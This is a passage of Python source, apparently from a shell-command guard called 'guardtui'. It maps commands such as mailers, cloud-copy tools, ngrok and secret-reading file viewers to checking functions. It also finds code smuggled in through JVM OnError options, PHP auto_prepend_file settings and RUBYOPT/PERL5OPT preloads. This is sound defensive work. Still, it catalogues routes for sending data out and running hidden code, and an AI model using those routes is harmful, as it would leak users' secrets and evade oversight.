    **{n: lambda run, inv: cmd_migrate.migrations(run, inv) or run.taxonomy(inv)
       for n in ("flyway", "liquibase", "dbmate")},
    # goose is Block's agent and pressly/goose (migrations): its arguments say which (shell/namesakes.py)
    "goose": lambda run, inv: ((cmd_migrate.migrations(run, inv) or run.taxonomy(inv))
                               if namesake(run.tax, inv) == "db-migrations" else cmd_agents.judge(run, inv)),
    "pg_restore": lambda run, inv: cmd_migrate.restore(run, inv) or run.taxonomy(inv),
    "hanami": lambda run, inv: cmd_migrate.migrations(run, inv) or run.taxonomy(inv),
    **{n: cmd_net.fetcher for n in ("aria2c", "fetch", "lynx", "links", "elinks", "w3m", "httpie", "curlie")},
    **{n: cmd_net.dns for n in ("dig", "nslookup", "host", "ping", "ping6", "traceroute", "whois")},
    **{n: cmd_exec.declaration for n in ("export", "declare", "typeset", "local", "readonly")},
    "rg": cmd_fs.ripgrep,
    **{n: cmd_fs.attributes for n in ("chattr", "setfacl")},
    "patch": cmd_fs.patch, "stow": cmd_fs.stow, "uudecode": cmd_fs.uudecode, "gio": cmd_fs.gio,
    **{n: cmd_fs.rename for n in ("rename", "prename", "file-rename", "perl-rename", "rename.ul")},
    "hyprctl": cmd_term.hyprctl, "pee": cmd_exec.pee, "fallocate": cmd_fs.rewrites_files,
    "recode": cmd_fs.rewrites_files,
    # FUSE file systems mounted over a directory hide what is there, as mount does
    **{n: cmd_fs.mount for n in ("bindfs", "sshfs", "fuse-overlayfs", "unionfs", "unionfs-fuse", "mergerfs", "encfs",
                                 "gocryptfs", "squashfuse", "fuse-zip", "archivemount", "mount.fuse", "mount.fuse3")},
    **{n: cmd_net.mailer for n in ("mail", "mailx", "sendmail", "mutt", "msmtp", "swaks", "s-nail")},
    **{n: cmd_net.cloud_copy for n in ("aws", "gsutil", "rclone", "azcopy", "s3cmd", "mc", "b2", "s5cmd")},
    "gcloud": lambda run, inv: cmd_exec.gcloud_ssh(run, inv) or cmd_net.cloud_copy(run, inv), "ngrok": cmd_net.ngrok,
    **{n: cmd_proc.process_tool for n in cmd_proc.PROCESS_TOOLS},
    # guardtui's own? else a job of ours, or a dev server (by its port, by the project program it runs)?
    "kill": lambda run, inv: cmd_proc.kill(run, inv) or cmd_exec.kill(run, inv) or cmd_proc.dev_kill(run, inv),
    **{n: (lambda run, inv: cmd_proc.pkill(run, inv) or cmd_proc.dev_pkill(run, inv)) for n in ("pkill", "killall")},
    "fuser": lambda run, inv: cmd_proc.fuser(run, inv) or cmd_proc.dev_fuser(run, inv),
    **{n: cmd_proc.service for n in ("systemctl", "launchctl", "service", "rc-service", "sv")},
    **{n: cmd_dbus.judge for n in ("gdbus", "busctl", "dbus-send")},  # a D-Bus call is the command it amounts to
    **{n: cmd_fs.editor for n in ("ed", "ex", "vi", "vim", "nvim", "emacs", "emacsclient", "nano", "micro", "hx", "kak",
                                  "joe")},

    **{n: cmd_fs.read_secret for n in ("cat", "less", "more", "head", "tail", "base64", "xxd", "strings", "bat")},
}


def _has_marker(directory: str, markers: tuple[str, ...]) -> bool:
    try:
        names = os.listdir(directory)
    except OSError:
        return False
    return any(fnmatch.fnmatchcase(n, m) for n in names[:4096] for m in markers)


def _java_command_options(name: str, value: str) -> list[str]:
    """The commands a JVM options variable makes the JVM run (-XX:OnOutOfMemoryError=, -XX:OnError=)."""
    if name not in _JAVA_OPTION_VARIABLES or "-XX:On" not in value:
        return []
    try:
        words = shlex.split(value)
    except ValueError:
        words = value.split()
    return [w.split("=", 1)[1] for w in words if re.match(r"-XX:On(?:OutOfMemory)?Error=", w)]


def _php_ini_preloads(name: str, value: str, cwd: str) -> list[str] | None:
    """The PHP files the ini files PHP_INI_SCAN_DIR (directories, `:`-separated; an empty entry is the built-in one)
    or PHPRC (a directory or a php.ini) add run before and after every script (auto_prepend_file, auto_append_file);
    None when an ini file loads a library (extension=), which guardtui cannot read."""
    inis: list[str] = []
    for entry in (value.split(":") if name == "PHP_INI_SCAN_DIR" else [value]):
        if not entry:
            continue
        path = posixpath.normpath(posixpath.join(cwd, entry))
        if os.path.isdir(path):
            try:
                names = sorted(os.listdir(path))[:64]
            except OSError:
                continue
            inis += [posixpath.join(path, n) for n in names if n.endswith(".ini") or name == "PHPRC" and n == "php.ini"]
        elif os.path.isfile(path):
            inis.append(path)
    files: list[str] = []
    for ini in inis:
        for line in (read_text(ini) or "").splitlines():
            m = re.match(r"""^\s*(auto_prepend_file|auto_append_file|(?:zend_)?extension)\s*=\s*["']?([^"';]*)""", line)
            if m is None or not m.group(2).strip():
                continue
            if "extension" in m.group(1):
                return None
            files.append(posixpath.normpath(posixpath.join(cwd, m.group(2).strip())))
    return files


def _library_preloads(name: str, value: str, cmd: SimpleCommand) -> list[str] | None:
    """The project files RUBYOPT (-r) or PERL5OPT (-M/-m) load into every ruby or perl; [] when they load only
    installed libraries; None when the value does something else (then setting it asks)."""
    cwd = cmd.scope.cwd or "/"
    env = dict(cmd.scope.variables)
    env.update({n: w.value for n, w in cmd.assignments})
    files: list[str] = []
    words = value.split()
    i = 0
    while i < len(words):
        word = words[i]
        m = re.fullmatch(r"-r(.*)" if name == "RUBYOPT" else r"-[Mm]-?([\w:]+)(?:=.*)?", word)
        if m is None:
            if re.fullmatch(r"-[wWvd](?:\S*)?|-E\S*|-K\w|--(?:jit|yjit|disable-\w+|enable-\w+)|-[CI]\S*", word):
                i += 1
                continue
            return None
        library = m.group(1) or (words[i + 1] if name == "RUBYOPT" and i + 1 < len(words) else "")
        i += 1 if m.group(1) else 2
        if name == "RUBYOPT":
            candidates = [library, library + ".rb"] if library.startswith((".", "/")) else \
                [posixpath.join(d, library + ".rb") for d in [cwd, posixpath.join(cwd, "lib")]]
        else:
            relative = library.replace("::", "/") + ".pm"
            dirs = [d for d in env.get("PERL5LIB", "").split(":") + env.get("PERLLIB", "").split(":") if d]
            dirs += [d[2:] for d in words if d.startswith("-I") and len(d) > 2] + ["lib", "."]
            candidates = [posixpath.join(d, relative) for d in dirs]
        for candidate in candidates:
            path = posixpath.normpath(candidate if candidate.startswith("/") else posixpath.join(cwd, candidate))
            if os.path.isfile(path):
                files.append(path)
                break
        else:
            if library.startswith((".", "/")):
                return None  # a file that is not there: cannot be judged
    return files


def option_values(words: list[Word], options, attached: bool = True) -> list[tuple[str, Word]]:
    """(option, its value) for each of `options` in the words: `--opt=V`, `--opt V`, `-o V`, and with `attached`
    a short option's value glued on (`-oFILE`, `-O"sh -c …"`); nothing after `--`."""
    out: list[tuple[str, Word]] = []
    for i, word in enumerate(words):
        a = word.value
        if a == "--":
            break
        name, eq, value = a.partition("=")
        if eq and name in options and name.startswith("-") and len(name) > 2:
            out.append((name, Word(value, value)))
        elif a in options:
            if i + 1 < len(words):
                out.append((a, words[i + 1]))
        elif attached:
            short = next((o for o in options if not o.startswith("--") and a.startswith(o) and len(a) > len(o)), None)
            if short is not None:
                out.append((short, Word(a[len(short):], a[len(short):])))
    return out
